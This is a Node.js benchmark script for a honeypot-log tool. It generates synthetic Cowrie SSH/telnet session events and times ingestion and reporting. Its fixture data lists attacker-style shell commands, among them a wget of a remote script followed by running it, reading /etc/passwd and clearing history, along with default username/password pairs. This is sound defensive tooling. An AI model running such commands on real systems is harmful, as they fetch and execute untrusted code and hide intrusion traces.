#!/usr/bin/env node
// `npm run bench:cowrie`: seeded Cowrie events → `sluice ingest --profile cowrie` (events/s, peak RSS),
// then every cowrie report on that database (each ≤ 1 s).
//   COWRIE_BENCH_EVENTS=200000 node bench/cowrie-bench.mjs
import { createWriteStream, mkdtempSync, rmSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { measure } from './measure.mjs';
import { mulberry32 } from './generate-bridge-events.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const BIN = join(here, '..', 'bin', 'sluice.js');
const N = Number(process.env.COWRIE_BENCH_EVENTS ?? 1_000_000);
const TARGET_RATE = 50_000;
const TARGET_RSS_MB = 250;
const TARGET_REPORT_S = 1;

const rand = mulberry32(4);
const pick = (list) => list[Math.floor(rand() * list.length)];
const USERS = ['root', 'admin', 'user', 'ubuntu', 'pi', 'test', 'oracle', 'git', 'support', 'guest'];
const PASSWORDS = ['123456', 'password', 'root', 'admin', '12345', 'qwerty', '1234', 'toor', 'raspberry', 'changeme'];
const COMMANDS = ['uname -a', 'cat /proc/cpuinfo', 'whoami', 'ls -la', 'cd /tmp', 'wget http://203.0.113.9/x.sh',
  'chmod +x x.sh', './x.sh', 'free -m', 'ps aux', 'nproc', 'echo ok', 'cat /etc/passwd', 'history -c'];
const URLS = Array.from({ length: 40 }, (_, i) => `http://203.0.113.${i % 20}/bin${i}.sh`);
const VERSIONS = ['SSH-2.0-libssh_0.9.6', 'SSH-2.0-Go', 'SSH-2.0-OpenSSH_8.9p1', 'SSH-2.0-PuTTY_Release_0.78'];
const SENSORS = ['hp-a', 'hp-b', 'hp-c'];
const hex = (n) => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join('');

/** Writes about `n` events, ~10 per session, to `path`; returns [events, sessions]. */
async function generate(path, n) {
  const out = createWriteStream(path);
  let t = Date.parse('2025-01-01T00:00:00Z');
  let events = 0;
  let sessions = 0;
  let buf = '';
  const emit = async (e) => {
    buf += `${JSON.stringify(e)}\n`;
    events += 1;
    if (buf.length > 1 << 16) {
      if (!out.write(buf)) await once(out, 'drain');
      buf = '';
    }
  };
  while (events < n) {
    const session = hex(12);
    const ip = `198.51.${Math.floor(rand() * 40)}.${Math.floor(rand() * 250)}`;
    const sensor = pick(SENSORS);
    const protocol = rand() < 0.85 ? 'ssh' : 'telnet';
    t += Math.floor(rand() * 30_000);
    let ts = t;
    const base = (eventid) => {
      ts += Math.floor(rand() * 3000);
      return { eventid, timestamp: new Date(ts).toISOString().replace('Z', '123Z'), session, src_ip: ip, sensor, protocol };
    };
    sessions += 1;
    await emit({ ...base('cowrie.session.connect'), src_port: 40000 + Math.floor(rand() * 20000), dst_port: 22 });
    await emit({ ...base('cowrie.client.version'), version: pick(VERSIONS) });
    await emit({ ...base('cowrie.client.kex'), hassh: hex(32) });
    const tries = 1 + Math.floor(rand() * 3);
    let ok = false;
    for (let i = 0; i < tries && !ok; i++) {
      ok = rand() < 0.4;
      await emit({ ...base(ok ? 'cowrie.login.success' : 'cowrie.login.failed'), username: pick(USERS), password: pick(PASSWORDS) });
    }
    if (ok) {
      const cmds = 2 + Math.floor(rand() * 5);
      for (let i = 0; i < cmds; i++) await emit({ ...base('cowrie.command.input'), input: pick(COMMANDS) });
      if (rand() < 0.3) {
        const url = pick(URLS);
        await emit({ ...base('cowrie.session.file_download'), url, shasum: url.length.toString(16).padStart(64, 'a'), outfile: 'x' });
      }
    }
    const duration = (ts - t) / 1000;
    await emit({ ...base('cowrie.session.closed'), duration: rand() < 0.5 ? duration : String(duration) });
  }
  out.end(buf);
  await once(out, 'close');
  return [events, sessions];
}

const dir = mkdtempSync(join(tmpdir(), 'sluice-cowrie-bench-'));
const input = join(dir, 'cowrie.json');
const db = join(dir, 'cowrie.db');
let failed = false;
try {
  const [events, sessions] = await generate(input, N);
  console.log(`generated ${events.toLocaleString('en')} events in ${sessions.toLocaleString('en')} sessions`);
  const ingest = await measure(process.execPath, [BIN, 'ingest', input, '--profile', 'cowrie', '--db', db, '--no-progress']);
  if (ingest.code !== 0) throw new Error(`ingest failed (${ingest.code}): ${ingest.stderr}`);
  const rate = events / ingest.seconds;
  const rateOk = rate >= TARGET_RATE;
  const rssOk = ingest.peakRssMB !== null && ingest.peakRssMB <= TARGET_RSS_MB;
  console.log(
    `ingest: ${ingest.seconds.toFixed(2)} s, ${Math.round(rate).toLocaleString('en')} events/s (target ≥ ${TARGET_RATE.toLocaleString('en')}) ${rateOk ? 'ok' : 'MISSED'}; ` +
      `peak RSS ${ingest.peakRssMB ?? '?'} MB (target ≤ ${TARGET_RSS_MB}) ${rssOk ? 'ok' : 'MISSED'}`,
  );
  failed ||= !rateOk || !rssOk;
  const reports = [
    ['sessions'],
    ['sessions', '--since', '2025-01-02', '--until', '2025-01-03', '--limit', '0'],
    ['sessions', '--ip', '198.51.7.7', '--limit', '0'],
    ['summary', '--period', 'daily'],
    ['summary', '--period', 'weekly'],
    ['summary', '--period', 'monthly'],
    ['top-commands'],
    ['top-ips'],
    ['credentials'],
    ['downloads'],
  ];
  for (const args of reports) {
    const r = await measure(process.execPath, [BIN, 'report', ...args, '--profile', 'cowrie', '--db', db, '--format', 'csv']);
    if (r.code !== 0) throw new Error(`report ${args.join(' ')} failed (${r.code}): ${r.stderr}`);
    const rows = Math.max(0, r.stdout.trim().split('\n').length - 1);
    const ok = r.seconds <= TARGET_REPORT_S;
    failed ||= !ok;
    console.log(
      `report ${args.join(' ').padEnd(60)} ${r.seconds.toFixed(3)} s, ${rows} rows, RSS ${r.peakRssMB ?? '?'} MB ${ok ? 'ok' : 'MISSED'}`,
    );
  }
} finally {
  rmSync(dir, { recursive: true, force: true });
}
process.exit(failed ? 1 : 0);
